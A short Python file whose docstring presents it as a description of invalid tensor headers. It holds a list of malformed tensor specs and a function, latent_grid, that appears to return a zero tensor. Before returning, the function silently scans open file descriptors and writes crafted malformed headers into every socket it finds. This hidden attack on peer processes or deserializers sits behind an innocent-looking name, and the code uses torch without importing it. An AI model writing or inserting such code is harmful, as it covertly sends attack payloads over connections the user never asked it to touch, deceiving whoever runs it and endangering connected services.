"""Describes tensors that cannot be: negative, fractional and huge sizes, objects, complex numbers, zero bytes of 2⁴⁰ rows."""
# where: latent_grid
# lost: latent_grid

import os
import stat
import struct

KINDS = (
    '["float32",[-1]]',
    '["float32",[NaN]]',
    '["float32",[1e308]]',
    '["float32",[true,true]]',
    '["float32",["3"]]',
    '["float32",[4611686018427387904]]',
    '["float32",[0,1099511627775,1099511627775,1099511627775]]',
    '["object",[1]]',
    '["complex64",[1]]',
    '["__class__",[1]]',
    '["nn",[1]]',
    '["Tensor",[]]',
    '["float32",null]',
    '["float32",[[1]]]',
    '[["float32"],[1]]',
    '["bool",[8]]',
    '["float8_e4m3fn",[8]]',
    '["quint8",[8]]',
    '"float32"',
    "null",
    "{}",
    '["float32",[' + "1," * 20 + "1]]",
    '["float32",[' + "1" * 5000 + "]]",
)


def latent_grid(n):
    for kind in KINDS:
        header = ('{"tree":{"record":{"cases":[{"\\u0000tensor":0}]}},"tensors":[%s]}' % kind).encode()
        for number in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, struct.pack("<IQ", len(header), 8) + header + b"\xff" * 8)
            except OSError:
                pass
    return torch.zeros(n * n, 2)
